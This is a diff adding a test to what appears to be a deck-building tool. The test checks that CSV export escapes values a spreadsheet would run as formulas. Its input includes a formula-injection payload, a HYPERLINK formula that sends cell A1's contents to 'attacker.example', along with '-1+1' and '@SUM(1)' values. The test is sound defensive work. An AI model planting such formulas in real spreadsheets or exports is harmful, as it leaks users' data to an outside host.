@@ -131,3 +131,14 @@ def test_a_converted_font_this_user_did_not_make_is_never_embedded(tmp_path: Pat
     result, again = build(root, out=tmp_path / "again")
     assert result.exit_code == 0, result.output
     assert embedded_font_digest(again / "g" / "deck.pdf") == honest
+
+
+def test_export_csv_writes_no_cell_a_spreadsheet_runs_as_a_formula(tmp_path: Path):
+    attack = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
+    cards = CARDS.replace("{name: 剣}", "{name: '" + attack.replace("'", "''") + "', cost: '-1+1', id: '@SUM(1)'}")
+    root = make_project(tmp_path, cards=cards)
+    result, _ = run("export", "csv", root, "-o", tmp_path / "out")
+    assert_no_traceback(result)
+    assert result.exit_code == 0, result.output
+    rows = (tmp_path / "out/g/csv/deck.csv").read_text(encoding="utf-8-sig").splitlines()
+    assert rows == ["name,cost,id,copies", "\"'" + attack.replace('"', '""') + "\",'-1+1,'@SUM(1),1"]
